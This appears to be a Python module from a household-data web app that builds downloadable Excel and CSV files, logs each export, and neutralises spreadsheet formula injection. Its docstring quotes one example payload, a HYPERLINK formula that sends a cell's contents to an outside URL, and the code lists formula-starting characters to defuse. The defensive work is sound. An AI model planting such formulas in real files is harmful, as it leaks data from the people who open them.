"""Downloadable files: the one place workbooks and CSVs are made, so every cell of text stays text.

A name such as `=HYPERLINK("http://x/?"&E5,"查看")` or a masked `=***` must reach the county as the text it
is, never as a formula or a link: every workbook is opened with XLSX_OPTIONS, and a CSV cell a spreadsheet
would run (starting with = + - @ tab or CR) is prefixed with a single quote (OWASP, CSV injection).
"""

from __future__ import annotations

import io
from collections.abc import Callable

import pandas as pd

from fupin.access import audit
from fupin.access.scope import Viewer

# xlsxwriter otherwise writes text starting with '=' as a formula and text like 'http://…' as a link.
XLSX_OPTIONS: dict[str, bool] = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIME = "text/csv"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def audited_file(
    build: Callable[[], tuple[bytes, int]], viewer: Viewer, action: str, *, filters: dict, unmasked: bool = False
) -> Callable[[], bytes]:
    """The `data` of st.download_button: a callable Streamlit runs when the button is clicked. It builds the
    file from what the page showed in that run (`build` returns the bytes and how many rows they hold) and
    writes the audit row then, so no file is kept between runs and only a download is an export."""

    def make() -> bytes:
        data, rows = build()
        audit.record(viewer, action, filters=filters, row_count=rows, unmasked=unmasked)
        return data

    return make


def excel_writer(buf: io.BytesIO) -> pd.ExcelWriter:
    """A pandas ExcelWriter (xlsxwriter) that writes every string as a string."""
    return pd.ExcelWriter(buf, engine="xlsxwriter", engine_kwargs={"options": XLSX_OPTIONS})


def households_xlsx(df: pd.DataFrame, *, title: str) -> bytes:
    """An XLSX of an already-masked table: title in row 1, header in row 3, filters on."""
    buf = io.BytesIO()
    with excel_writer(buf) as xw:
        df.to_excel(xw, index=False, sheet_name="工作单", startrow=2)
        ws = xw.sheets["工作单"]
        ws.write_string(0, 0, title)
        ws.freeze_panes(3, 0)
        ws.autofilter(2, 0, 2 + len(df), max(len(df.columns) - 1, 0))
        for i, col in enumerate(df.columns):
            ws.set_column(i, i, max(8, min(40, len(str(col)) * 2 + 4)))
    return buf.getvalue()


def table_xlsx(df: pd.DataFrame, *, sheet_name: str) -> bytes:
    """A plain one-sheet XLSX of a table (header in row 1)."""
    buf = io.BytesIO()
    with excel_writer(buf) as xw:
        df.to_excel(xw, index=False, sheet_name=sheet_name)
    return buf.getvalue()


def _defuse(value: object) -> object:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def safe_csv(df: pd.DataFrame) -> bytes:
    """CSV bytes (UTF-8 with BOM, so Excel reads Chinese) with text cells that a spreadsheet would run as a
    formula prefixed with '; numeric and boolean columns are written as they are (-3 stays a number)."""
    out = df.copy()
    for col in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])):
            out[col] = out[col].map(_defuse)
    # CRLF line ends (as Excel writes them): a CR inside a cell is then quoted, never read as a row end
    return out.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
